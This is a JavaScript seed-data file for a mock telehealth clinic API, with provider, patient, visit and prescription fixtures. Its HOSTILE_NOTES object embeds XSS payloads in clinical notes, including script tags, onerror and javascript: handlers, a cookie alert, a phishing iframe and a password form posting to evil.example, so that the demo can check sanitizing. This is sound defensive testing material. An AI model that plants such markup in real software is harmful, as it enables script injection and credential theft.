// Seed data, lifted from the vendor's samples (vsee-clinic-api-v3.txt) and kept deliberately
// inconsistent the way the real API is: ids and timestamps are strings in some objects and
// numbers in others, names come as first/last in some and only `full_name` in others.
// Every builder takes `now` (Unix seconds) and returns fresh objects, so a tenant can mutate
// its copy freely.

export const ACCOUNT_CODE = 'vclinic';
export const DEMO_TOKEN = 'demo-patient-token';
export const DEMO_API_KEY = 'demo-api-key';
export const DEMO_API_SECRET = 'demo-api-secret';
export const DEMO_MEMBER_ID = '575';
export const DAY = 86400;
export const SLOT_GRID = 900;

/** Provider records as the list sample shows them, plus the schedule the mock books against. */
export const PROVIDERS = {
  509: {
    profile: {
      id: '509',
      code: '56e7a1c2b90c4d68953e3d02ac1f0144',
      first_name: 'Ligeng',
      last_name: 'Doctor',
      full_name: 'Ligeng Doctor',
      username: 'ligeng+provider1@vsee.com',
      vseeid: 'wellikodev+user509',
      email: 'ligeng+provider1@vsee.com',
      photo: null,
      active: true,
      title: '',
      suffix: '',
      tos: false,
      phone: '6506506500',
      subtype: '482',
    },
    timezone: 'America/New_York',
    schedule: { days: [1, 2, 3, 4, 5], from: '09:00', to: '17:00' },
  },
  1096: {
    profile: {
      id: '1096',
      code: '563b40f082584368bee10335ac1f0144',
      first_name: 'Anton',
      last_name: 'Provider III',
      full_name: 'Anton Provider III',
      username: 'anton+provider3@vsee.com',
      vseeid: 'conciergedev+user1096',
      email: 'anton+provider3@vsee.com',
      photo: null,
      active: true,
      title: '',
      suffix: '',
      tos: true,
      phone: '(334) 229-4100',
      subtype: '482',
    },
    timezone: 'America/Los_Angeles',
    schedule: { days: [1, 2, 3, 4, 5], from: '10:00', to: '18:00' },
  },
  // Only `full_name`, as in the GET /visits/:id sample; no schedule in the demo room.
  12456470: {
    profile: {
      id: '12456470',
      email: 'anton+providersa@vseelab.com',
      subtype: '482',
      vseeid: 'anton+providersa@vseelab.com',
      photo: null,
      full_name: 'Anton Provider',
      title: '',
      suffix: '',
    },
    timezone: 'America/Los_Angeles',
    schedule: null,
  },
};

/** @param {string|number} id */
export const providerProfile = (id) => {
  const p = PROVIDERS[/** @type {keyof typeof PROVIDERS} */ (String(id))];
  return p ? structuredClone(p.profile) : null;
};

/** @param {string|number} id */
export function hostOf(id) {
  const p = providerProfile(id);
  if (!p) return null;
  const fullName = p.full_name || `${p.first_name} ${p.last_name}`;
  return {
    username: p.email,
    email: p.email,
    phone: p.phone || '',
    timezone: PROVIDERS[/** @type {keyof typeof PROVIDERS} */ (String(id))].timezone,
    vseeid: p.vseeid,
    full_name: fullName,
    title: '',
    suffix: '',
    id: String(id),
    photo_attachment_id: '',
    role: 'owner',
  };
}

export const MEMBER = {
  id: '575',
  code: '553ea41edfd041bd94475276ac1f0144',
  first_name: 'Keven2',
  last_name: 'Teodoro2',
  // The detail sample's member carries `full_name`, the list sample's does not: keep both readings.
  full_name: 'Keven2 Teodoro2',
  username: 'anton+1@vsee.com',
  vseeid: 'conciergedev+user575',
  dob: '1983-02-02',
  email: 'anton+1@vsee.com',
  gender: 2,
  active: true,
  tos: true,
  phone: '7123456111',
  subtype: '',
};

export const member = () => structuredClone(MEMBER);

export const ACCOUNT = {
  code: 'vclinic',
  name: 'VClinic',
  domain: 'vclinic.vseepreview.com',
  vsee_api: { meeting: { enabled: true, guest_invite_enabled: true, adhoc_group_call: { disabled: true } } },
};

/** Rooms answered by GET /rooms/:code. `providers` is the mock's own bookkeeping. */
export const ROOMS = {
  ceproom1: {
    id: '10019500',
    code: 'ceproom1',
    name: 'VClinic UAT Room',
    domain: 'vclinic.vseepreview.com',
    slug: 'UAT',
    providers: ['509', '1096'],
    specialties: [
      { code: 'general', name: 'General Practice', duration: '900' },
      { code: 'dermatology', name: 'Dermatology', duration: 1800 },
    ],
    consultations: [
      {
        id: '615cec5b-14c8-4493-b9ce-365764457b11',
        description: 'Standard visit (15 min)',
        duration: '900',
        amount: 0,
        group: false,
        charge: false,
        slots: 1,
      },
      {
        id: '6160a1f2-3c4d-4e5f-8a9b-0c1d64457b11',
        description: 'Extended consultation (30 min)',
        duration: 1800,
        amount: '25.00',
        group: false,
        charge: true,
        slots: '1',
      },
      {
        id: '6160a1f2-77aa-4b2c-9d3e-4f5a64457b11',
        description: 'Group allergy class (60 min)',
        duration: 3600,
        amount: 0,
        group: true,
        charge: false,
        slots: 8,
      },
    ],
    timezone: 'America/Los_Angeles',
  },
  vclinicroom: {
    id: '10023087',
    code: 'vclinicroom',
    name: 'VClinic UAT',
    domain: 'vclinic.vseepreview.com',
    slug: 'UAT',
    providers: ['12456470'],
    specialties: [],
    consultations: [
      {
        description: 'test',
        duration: 60,
        charge: false,
        group: false,
        slots: 1,
        amount: 0,
        visible_to_patient: true,
        id: '615cec5b-14c8-4493-b9ce-365764457b11',
        currency: 'USD',
      },
    ],
    timezone: 'America/Los_Angeles',
  },
};

/** The `room` object embedded in visits. @param {string} code */
export function roomRef(code) {
  const r = ROOMS[/** @type {keyof typeof ROOMS} */ (code)];
  if (!r) return null;
  return { id: r.id, code: r.code, name: r.name, domain: r.domain, account_code: ACCOUNT_CODE, slug: r.slug };
}

/** The seed's intake attachment, so its id is valid in the mock. @param {number} now */
export function seedFiles(now) {
  return [
    {
      _id: '57b4c65d-7ef8-461f-8951-43b1ac1f0144',
      name: '575004c7-b350-421d-8542-4dcdac1f0144.png',
      path: 'files/2016/08/17/57b4c65d-7ef8-461f-8951-43b1ac1f0144.png',
      size: 12859,
      ext: 'png',
      type: 0,
      creator_id: '575',
      remark: null,
      using: 1,
      modified: { sec: now - 40 * DAY, usec: 966000 },
      created: { sec: now - 40 * DAY, usec: 967000 },
    },
  ];
}

/** The seed's GET /intakes/:id sample. @param {number} now */
export function seedIntakes(now) {
  return [
    {
      modified: now - 40 * DAY,
      created: now - 40 * DAY,
      type: '1',
      reason_for_visit: 'the reason',
      room_code: 'ceproom1',
      member_id: '575',
      attachments: ['57b4c65d-7ef8-461f-8951-43b1ac1f0144'],
      id: '57b4c678-de20-4c1a-a52b-43e9ac1f0144',
    },
  ];
}

// Keys whose values are Unix-second timestamps in the samples; shifted together so a sample
// keeps its internal spacing (start vs created vs call logs) when moved to "now".
const TIME_KEYS = /^(start|end|actual_start|actual_end|created|modified|expiry|total_start|total_end|call_start_\d+|sec)$/;

/** @param {any} node @param {number} delta */
function shiftTimes(node, delta) {
  if (Array.isArray(node)) node.forEach((x) => shiftTimes(x, delta));
  else if (node && typeof node === 'object') {
    for (const [k, v] of Object.entries(node)) {
      if (k === 'medical_profile') continue;
      if (TIME_KEYS.test(k) && v !== null && /^\d{10}$/.test(String(v))) {
        node[k] = typeof v === 'string' ? String(Number(v) + delta) : v + delta;
      } else if (v && typeof v === 'object') shiftTimes(v, delta);
    }
  }
  return node;
}

/** Moves a sample so that its `start` becomes `newStart`, keeping every other time relative. */
function moveTo(visit, newStart) {
  return shiftTimes(visit, newStart - Number(visit.start));
}

const grid = (t) => Math.ceil(t / SLOT_GRID) * SLOT_GRID;

const MEDICAL_PROFILE = {
  _id: '553ea41ef468747652d11034',
  user_id: '575',
  family_conditions: {
    data: [
      { condition: 'Diabetes', relations: ['Paternal grandparents'] },
      { condition: 'Ulcer disease', relations: ['Mother'] },
    ],
    modified: 1467623311,
    modifiedBy: 'Keven Teodoro',
  },
  conditions: {
    data: [{ condition: 'Kidney disease' }, { condition: 'Kidney stones' }, { condition: 'Stroke' }],
    modified: 1472059195,
    modifiedBy: 'Keven2 Teodoro2',
  },
  social_history: {
    data: [],
    modified: 1472588123,
    modifiedBy: 'Keven2 Teodoro2',
    modified_by: { id: '575', type: 200, subtype: '', first_name: 'Keven2', last_name: 'Teodoro2', photo: '' },
  },
  health_habits: { data: [], modified: 1470128370, modifiedBy: 'Keven2 Teodoro2' },
  surgeries: {
    data: [{ procedure: 'C-section' }, { procedure: 'Heart valve replaced' }],
    modified: 1471769856,
    modifiedBy: 'Keven2 Teodoro2',
  },
  medications: {
    data: [],
    modified: 1471769958,
    modifiedBy: 'Keven2 Teodoro2',
    modified_by: { id: '575', type: '200', subtype: '', first_name: 'Keven2', last_name: 'Teodoro2' },
  },
  allergies: {
    data: [],
    modified: 1471986123,
    modifiedBy: 'Keven2 Teodoro2',
    modified_by: { id: '575', type: '200', subtype: '', first_name: 'Keven2', last_name: 'Teodoro2' },
  },
  modified: { sec: 1472059195, usec: 806000 },
  created: { sec: 1430168606, usec: 596000 },
};

/**
 * Provider notes that a real clinician might write, plus the hostile markup a compromised or
 * careless provider account could store: the demo shows these rendered after sanitizing.
 */
/**
 * A prescription with every field of the documented `prescriptionsBeforeVisit` item (the
 * e-prescribing system's own names), the given ones filled in.
 * @param {Record<string, unknown>} fields
 */
export function prescription(fields) {
  return {
    ID: '',
    DrugID: '',
    NDC: '',
    RxNormCode: '',
    Drug: '',
    Supply: false,
    Compound: false,
    Directions: '',
    Qty: 0,
    QtyQual: '',
    Refills: 0,
    DaysSupply: 0,
    SubstitutionAllowedFlag: 1,
    Schedule: 0,
    PharmacyNote: '',
    InternalNote: '',
    PrescriberId: '12456470',
    LocationId: 'DEMO-ACCOUNT',
    PrescriptionDate: '0001-01-01T00:00:00',
    SignDate: '0001-01-01T00:00:00',
    Status: 'Current',
    PharmacyNcpdpId: '0001060',
    RouteDetail: '',
    PartnerMedID: '',
    PrescriberName: 'Anton Provider',
    ...fields,
  };
}

export const HOSTILE_NOTES = {
  physical_exam:
    '<p>Patient is alert and oriented, <strong>in no acute distress</strong>.</p>' +
    '<ul><li>Skin: erythematous, papular rash on both forearms</li>' +
    '<li>Eyes: mild bilateral conjunctival injection</li>' +
    '<li>Lungs: clear to auscultation</li></ul>' +
    '<img src=x onerror="alert(1)">',
  assessment_plan:
    '<p><b>Assessment:</b> allergic contact dermatitis, most likely from a new detergent.</p>' +
    '<ol><li>Hydrocortisone 1% cream twice a day for 7 days</li>' +
    '<li>Cetirizine 10 mg at night while itching</li></ol>' +
    '<script>alert("xss")</script>' +
    '<p>More reading: <a href="https://www.aad.org/public/diseases/eczema/types/contact-dermatitis" target="_blank">AAD patient guide</a>.</p>',
  patient_instructions:
    '<p>Switch back to your previous detergent and <em>avoid scratching</em>.</p>' +
    '<p><a href="javascript:alert(document.cookie)">Open your lab results</a></p>' +
    '<p onclick="alert(2)" style="background:url(javascript:alert(3))">Call us if the rash spreads or you have trouble breathing.</p>' +
    '<iframe src="https://evil.example/phish"></iframe>' +
    '<form action="https://evil.example/steal"><input name="password"></form>',
};

/** The detailed GET /visits/:id sample, as a past completed visit of the demo patient. */
function sampleDetailedVisit(now) {
  const v = {
    member_id: 575,
    provider_id: 12456470,
    account_code: 'vclinic',
    code: '615f2e2eabc46ad94e9b6457b11',
    start: 1631628616,
    end: 1631628916,
    actual_start: 1631628211,
    actual_end: null,
    specialty_id: null,
    state: null,
    type: 2,
    status: 30,
    completed_by: null,
    room_id: 1002387,
    room_code: 'vclinicroom',
    modified: 1633630312,
    created: 1633627694,
    provider: providerProfile(12456470),
    member: member(),
    subType: 3,
    more_provider_ids: null,
    guest_emails: null,
    guest_mobiles: null,
    reminder_type: null,
    reminder_time: null,
    host_ids: ['12456470'],
    hosts: [hostOf(12456470)],
    creator: {
      id: '15729940',
      code: '60aed4242c90409099385cef64457b11',
      vseeid: 'd55d2f77ff3653891a587fdfa83207b4@vsee.com',
      type: 160,
      subtype: '',
      first_name: null,
      last_name: null,
      account_code: 'vclinic',
    },
    pending_actions: [],
    is_test: false,
    meeting: {
      recording_auto_start: false,
      phone_numbers: { US: ['+1.650.758.0255'] },
      hosts: ['anton+providersa@vseelab.com', 'chau+provider@vseelab.com'],
      expiry: 1633643316,
      conference_pin: 838759,
      meeting_id: '1633627695040_2cc263f4-3d07-49fa-97b1-b2955ff40dfa__jitsi',
    },
    one_time_link_token: 'l0vht6wkxj',
    notify_list: [],
    payment: {
      duration: null,
      amount: '25.00',
      description: 'Cloud Clinic Default One-time Charge Message',
      id: '615cec5b-14c8-4493-b9ce-365764457b11',
    },
    invoice_id: '615f2e2f-0b1c-4d2e-9f30-594b64457b11',
    intake_id: '615f2de7-8ab8-48d3-80d8-53f564457b11',
    related_walkin_id: '18407370',
    call_logs: {
      total_start: 1633628208,
      total_end: 1633628268,
      total_duration: 60,
      waiting_time: 0,
      provider_id_1: 'anton+providersa@vseelab.com',
      call_start_1: 1633628208,
      call_duration_1: 60,
      wait_time_1: 0,
      patients: ['cmo+615f28cd70804d8994d62bd564457b11'],
      source: 'v2',
      source_ids: [
        '1633628104000_1633627695040_2cc263f4-3d07-49fa-97b1-b2955ff40dfa__jitsi',
        '1633628745000_1633627695040_2cc263f4-3d07-49fa-97b1-b2955ff40dfa__jitsi',
      ],
    },
    incharge: false,
    intake: {
      provider_id: '12456470',
      member_id: '575',
      room_code: 'vclinicroom',
      location: 'MI',
      phone: '5551234415',
      type: '2',
      room: 'vclinicroom',
      modified: 1633627623,
      created: 1633627623,
      visit_id: '18407167',
      attachments: '',
      reason_for_visit: 'Itchy rash on both arms and red eyes',
      consent: 'true',
      custom_is_allergic: 'Yes',
      custom_symptoms: 'Rash, Red Eyes',
      custom_symptoms_duration: '2 weeks',
      consultation: {
        description: 'test',
        duration: 60,
        charge: false,
        group: false,
        slots: 1,
        amount: 0,
        visible_to_patient: true,
        id: '615cec5b-14c8-4493-b9ce-365764457b11',
        currency: 'USD',
      },
      medical_profile: structuredClone(MEDICAL_PROFILE),
      id: '615f2de7-8ab8-48d3-80d8-53f564457b11',
    },
    related_walkin: { start: 1633628101, end: 1633631701, status: 30, id: '18407370' },
    postvisit: {
      id: '615f2e2f-c240-4088-a28b-594b64457b11',
      visit_id: '18407167',
      member_id: '575',
      class_id: null,
      modified: 1633630312,
      created: 1633627695,
      modifiedBy: 'Anton Provider',
      draft: false,
      ...HOSTILE_NOTES,
      reason_for_visit: 'Allergic reaction',
      reason_for_visit_other: '',
      schema: '',
      diagnosis: 'Allergic contact dermatitis (L23.9),Allergic conjunctivitis (H10.45)',
      disposition: 'Follow up in 2 weeks if not improved',
      dea: '',
      npi: '',
      attachments: [
        {
          _id: '57e4f034-3a0c-4b1d-bc15-221bac1f0144',
          name: 'Water_nature_canyon_cliffs_horseshoe_bend_rivers_2560x1600.jpg',
          path: 'files/2016/09/23/57e4f034-3a0c-4b1d-bc15-221bac1f0144.jpg',
          size: 1692776,
          ext: 'jpg',
          type: 0,
          creator_id: '12456470',
          remark: null,
          using: 1,
          modified: { sec: 1633630300, usec: 858000 },
          created: { sec: 1633630300, usec: 858000 },
        },
      ],
    },
    isEditExpired: false,
    room: roomRef('vclinicroom'),
    account: structuredClone(ACCOUNT),
    prescriptionsBeforeVisit: [
      {
        ID: '97316',
        DrugID: '69117',
        NDC: '00122206038',
        RxNormCode: '260654',
        Drug: 'One Tab Daily with Iron oral tablet',
        Supply: false,
        Compound: false,
        Directions: '1 Milliliter(s) 1 to 2 times a day',
        Qty: 60,
        QtyQual: 'Tablet',
        Refills: 0,
        DaysSupply: 0,
        SubstitutionAllowedFlag: 1,
        Schedule: 0,
        PharmacyNote: '',
        InternalNote: '',
        PrescriberId: '826',
        LocationId: 'DEMO-ACCOUNT',
        PrescriptionDate: '2016-01-30T00:00:00',
        SignDate: '0001-01-01T00:00:00',
        Status: 'Current',
        PharmacyNcpdpId: '0001060',
        RouteDetail: 'e-Sent:Jan 30 2016  3:41PM Test 000 Pharmacy 10.6MU<br />Sent',
        PartnerMedID: '',
        PrescriberName: 'Dr. John Will, M.D.',
      },
    ],
    // Prescribed at this visit: the documentation shows this list empty; written here in the
    // e-prescribing shape of `prescriptionsBeforeVisit`, with a string Qty as the API's drift allows.
    prescriptions: [
      prescription({
        ID: '18407167-1',
        Drug: 'Hydrocortisone 1% topical cream',
        Directions: 'Apply a thin layer to the affected skin twice a day for 7 days',
        Qty: 1,
        QtyQual: 'Tube',
        Refills: 0,
        PrescriptionDate: '2021-09-14T00:00:00',
      }),
      prescription({
        ID: '18407167-2',
        Drug: 'Cetirizine 10 mg oral tablet',
        Directions: '1 tablet by mouth at bedtime',
        Qty: '30',
        QtyQual: 'Tablet',
        Refills: '2',
        PrescriptionDate: '2021-09-14T00:00:00',
      }),
    ],
    root_visit: { id: '18407167', group_chat_id: null, participants: null },
    id: '18407167',
    subtype: 3,
  };
  return moveTo(v, grid(now - 3 * DAY) + 300);
}

/** The GET /visits list sample (all strings), as an upcoming one-to-one appointment. */
function sampleListVisit(now) {
  const v = {
    id: '7727',
    member_id: '575',
    provider_id: '1096',
    account_code: 'vclinic',
    code: '57a07c26947c4544aeef4e5cac1f0144',
    start: '1470669300',
    end: '1470670200',
    actual_start: null,
    actual_end: null,
    specialty_id: null,
    state: null,
    type: '2',
    subtype: '3',
    status: '20',
    completed_by: null,
    created: 1470135334,
    modified: 1470135334,
    room_id: null,
    room_code: 'ceproom1',
    _id: '7727',
    payment: { duration: null, amount: '0.00', description: 'CMO Config Level One-time charge' },
    invoice_id: '57a071d0-c0dc-45a6-9bc3-40fdac1f0144',
    intake_id: '57a0705e-1c4c-4f24-b51d-3c71ac1f0144',
    provider: {
      ...providerProfile(1096),
      photo:
        'https://api.vseepreview.com/vc/next/api_v3/files/index/app_user/photo/1096/?auth_code=8350f279578774a6e31787fc5a5a05d2948770e0',
    },
    member: member(),
  };
  return moveTo(v, grid(now + 2 * DAY));
}

/** A group class: the only kind of visit that carries `visit_group_id`. Numbers, like the detail sample. */
function groupVisit(now) {
  const start = grid(now + 5 * DAY);
  return {
    id: '18410020',
    member_id: 575,
    provider_id: 509,
    account_code: 'vclinic',
    code: '6161b7e0a3f04c1e9b2d7f3e64457b11',
    start,
    end: start + 3600,
    actual_start: null,
    actual_end: null,
    specialty_id: null,
    state: null,
    type: 2,
    subtype: 3,
    status: 20,
    completed_by: null,
    created: now - 2 * DAY,
    modified: now - 2 * DAY,
    room_id: 10019500,
    room_code: 'ceproom1',
    visit_group_id: '6161b7e0-5a4b-4c3d-8e9f-0a1b64457b11',
    payment: { duration: 60, amount: 0, description: 'Group allergy class (60 min)', id: '6160a1f2-77aa-4b2c-9d3e-4f5a64457b11' },
    invoice_id: null,
    intake_id: null,
    provider: providerProfile(509),
    member: member(),
    host_ids: ['509'],
    hosts: [hostOf(509)],
    room: roomRef('ceproom1'),
    account: structuredClone(ACCOUNT),
    prescriptions: [],
    postvisit: null,
  };
}

/** The postvisit notes sample (visit 9709) on a completed visit with Anton Provider III. */
function pastCompletedStrings(now) {
  const v = {
    id: '9709',
    member_id: '575',
    provider_id: '1096',
    account_code: 'vclinic',
    code: '57d1b2a1c7e04d2fa3b1f0a2ac1f0144',
    start: '1473368400',
    end: '1473369300',
    actual_start: '1473368460',
    actual_end: '1473369240',
    specialty_id: null,
    state: null,
    type: '2',
    subtype: '3',
    status: '30',
    completed_by: '1096',
    created: 1473100000,
    modified: 1473370072,
    room_id: null,
    room_code: 'ceproom1',
    _id: '9709',
    payment: { duration: 15, amount: '0.00', description: 'CMO Config Level One-time charge' },
    invoice_id: '57d1b2a1-1a2b-4c3d-9e8f-40fdac1f0144',
    provider: providerProfile(1096),
    member: member(),
    postvisit: {
      visit_id: '9709',
      modified: 1473370072,
      created: 1473368099,
      member_id: '575',
      modifiedBy: 'Anton Provider III',
      draft: false,
      physical_exam: '<p>dfvevofivuoiwue</p><p>iou</p><p>oi</p>',
      assessment_plan: '<p>oiuoiwfuweoifu</p><p>efweiofweiofuweoif</p><p><br></p>',
      reason_for_visit: 'Allergic reaction',
      reason_for_visit_other: '',
      schema: '',
      diagnosis: 'Allergic reaction,initial encounter (T78.40XA),Asthma (J45.909)',
      patient_instructions: '<p>Plan / Discharge...<br></p>',
      disposition: 'Referred to ED',
      dea: '',
      npi: '',
      attachments: [
        {
          _id: '57e4f034-3a0c-4b1d-bc15-221bac1f0144',
          name: 'Water_nature_canyon_cliffs_horseshoe_bend_rivers_2560x1600.jpg',
          path: 'files/2016/09/23/57e4f034-3a0c-4b1d-bc15-221bac1f0144.jpg',
          size: 1692776,
          ext: 'jpg',
          type: 0,
          creator_id: '1096',
          remark: null,
          using: 1,
          modified: { sec: 1473370000, usec: 858000 },
          created: { sec: 1473370000, usec: 858000 },
        },
      ],
    },
    prescriptionsBeforeVisit: [],
    prescriptions: [
      prescription({
        ID: '9709-1',
        Drug: 'Albuterol HFA 90 mcg inhaler',
        Directions: '2 puffs every 4-6 hours as needed',
        Qty: 1,
        QtyQual: 'Inhaler',
        Refills: 1,
        PrescriberName: 'Anton Provider III',
        PrescriptionDate: '2016-09-08T00:00:00',
      }),
    ],
  };
  return moveTo(v, grid(now - 45 * DAY));
}

/** A cancelled appointment (status 40), strings. */
function pastCancelled(now) {
  const v = {
    id: '7701',
    member_id: '575',
    provider_id: '1096',
    account_code: 'vclinic',
    code: '579f2b1e8c4d4e2f9a0b1c2dac1f0144',
    start: '1470063600',
    end: '1470064500',
    actual_start: null,
    actual_end: '1469900000',
    specialty_id: null,
    state: null,
    type: '2',
    subtype: '3',
    status: '40',
    completed_by: '575',
    created: 1469800000,
    modified: 1469900000,
    room_id: null,
    room_code: 'ceproom1',
    _id: '7701',
    payment: { duration: null, amount: '0.00', description: 'CMO Config Level One-time charge' },
    invoice_id: '579f2b1e-3d4c-4b5a-8f9e-40fdac1f0144',
    provider: providerProfile(1096),
    member: member(),
  };
  return moveTo(v, grid(now - 10 * DAY));
}

/** A status code this project has no name for (35): clients must show it neutrally. */
function pastUnknownStatus(now) {
  const start = grid(now - 20 * DAY);
  return {
    id: '18399012',
    member_id: 575,
    provider_id: 509,
    account_code: 'vclinic',
    code: '6158a0c2b7d34e5f8a9b0c1d64457b11',
    start,
    end: start + 900,
    actual_start: start + 120,
    actual_end: null,
    specialty_id: null,
    state: null,
    type: 2,
    subtype: 3,
    status: 35,
    completed_by: null,
    created: start - 3 * DAY,
    modified: start + 1000,
    room_id: 10019500,
    room_code: 'ceproom1',
    payment: { duration: 15, amount: '0.00', description: 'Standard visit (15 min)' },
    invoice_id: '6158a0c2-1b2c-4d3e-8f4a-5b6c64457b11',
    provider: providerProfile(509),
    member: member(),
    host_ids: ['509'],
    hosts: [hostOf(509)],
    room: roomRef('ceproom1'),
    account: structuredClone(ACCOUNT),
    prescriptions: [],
  };
}

/** The add_econsult sample (numbers), completed, belonging to the demo patient. */
function pastEconsult(now) {
  const v = {
    incharge: false,
    isEditExpired: false,
    id: '14814100',
    member_id: 575,
    provider_id: 509,
    account_code: 'vclinic',
    code: '6050d2e590d847429d312c8664457b11',
    start: 1615909605,
    end: 1615910505,
    actual_start: 1615913000,
    actual_end: 1615914000,
    specialty_id: null,
    state: '--',
    type: 3,
    status: 30,
    completed_by: 509,
    room_id: 10019500,
    room_code: 'ceproom1',
    member: {
      id: '575',
      code: MEMBER.code,
      type: '200',
      subtype: '',
      first_name: 'Keven2',
      last_name: 'Teodoro2',
      full_name: 'Keven2 Teodoro2',
      active: true,
      vseeid: MEMBER.vseeid,
    },
    provider: providerProfile(509),
    pending_actions: [],
    invoice: {
      user_id: '575',
      status: 10,
      currency: 'USD',
      livemode: false,
      amount_due: 0,
      visit_id: '14814100',
      modified: 1615909605,
      created: 1615909605,
      id: '6050d2e5-f680-4695-b284-2c8664457b11',
    },
    creator: {
      id: '575',
      code: MEMBER.code,
      vseeid: MEMBER.vseeid,
      type: 200,
      subtype: '',
      first_name: 'Keven2',
      last_name: 'Teodoro2',
      account_code: 'vclinic',
    },
    invoice_id: '6050d2e5-f680-4695-b284-2c8664457b11',
    intake_id: '6050d1a8-b120-45b4-a568-61a664457b11',
    postvisit: {
      member_id: '575',
      class_id: null,
      visit_id: '14814100',
      modified: 1615914100,
      created: 1615909605,
      modifiedBy: 'Ligeng Doctor',
      draft: false,
      physical_exam: '<p>Photos reviewed: small <em>well-demarcated</em> patch on the left wrist.</p>',
      assessment_plan: '<p>Likely nickel allergy from the watch strap.</p>',
      patient_instructions: '<p>Wear the watch over a sleeve or switch to a plastic strap.</p>',
      reason_for_visit: 'Skin patch under watch strap',
      diagnosis: 'Allergic contact dermatitis due to metals (L23.0)',
      disposition: 'Self care',
      attachments: [],
    },
    account: { domain: null, code: 'vclinic', name: 'VClinic' },
    room: roomRef('ceproom1'),
    intake: {
      reason_for_visit: 'Skin patch under watch strap',
      question_1: 'Answer 1',
      question_2: 'Answer 2',
      location: '--',
      modified: 1615909288,
      created: 1615909288,
      visit_id: '14814100',
      invoice_id: '6050d2e5-f680-4695-b284-2c8664457b11',
      id: '6050d1a8-b120-45b4-a568-61a664457b11',
    },
    payment: { duration: null, amount: 0, description: 'E-consult' },
    prescriptions: [],
    subtype: 4,
    expiry: 1615924905,
  };
  return moveTo(v, grid(now - 30 * DAY));
}

/** All seeded visits of the demo patient, newest first. @param {number} now */
export function seedVisits(now) {
  return [
    groupVisit(now),
    sampleListVisit(now),
    sampleDetailedVisit(now),
    pastCancelled(now),
    pastUnknownStatus(now),
    pastEconsult(now),
    pastCompletedStrings(now),
  ];
}

const GENERATED_STATUSES = [30, 30, 40, 30, 35];
const GENERATED_PROVIDERS = ['509', '1096', '12456470'];

/**
 * A filler past visit for long-history tests, alternating string and number typing.
 * @param {number} n 0-based index among generated visits
 * @param {number} now
 * @param {string} id
 */
export function generatedVisit(n, now, id) {
  const start = grid(now - (60 + n * 3) * DAY);
  const providerId = GENERATED_PROVIDERS[n % GENERATED_PROVIDERS.length];
  const status = GENERATED_STATUSES[n % GENERATED_STATUSES.length];
  const str = n % 2 === 0;
  /** @param {number|null} x */
  const t = (x) => (x === null ? null : str ? String(x) : x);
  return {
    id,
    member_id: t(575),
    provider_id: t(Number(providerId)),
    account_code: 'vclinic',
    code: `gen${id}`,
    start: t(start),
    end: t(start + 900),
    actual_start: status === 30 ? t(start + 60) : null,
    actual_end: status === 30 ? t(start + 840) : null,
    specialty_id: null,
    state: null,
    type: t(2),
    subtype: t(3),
    status: t(status),
    completed_by: null,
    created: start - DAY,
    modified: start + 900,
    room_id: null,
    room_code: 'ceproom1',
    payment: { duration: 15, amount: '0.00', description: 'Standard visit (15 min)' },
    invoice_id: null,
    provider: providerProfile(providerId),
    member: member(),
    prescriptions: [],
    postvisit:
      status === 30
        ? {
            visit_id: id,
            member_id: '575',
            modified: start + 1200,
            created: start + 900,
            modifiedBy: 'Ligeng Doctor',
            draft: false,
            physical_exam: `<p>Follow-up visit #${n + 1}: stable.</p>`,
            assessment_plan: '<p>Continue current plan.</p>',
            patient_instructions: '<p>No changes.</p>',
            reason_for_visit: 'Follow-up',
            diagnosis: '',
            disposition: 'Self care',
            attachments: [],
          }
        : null,
  };
}
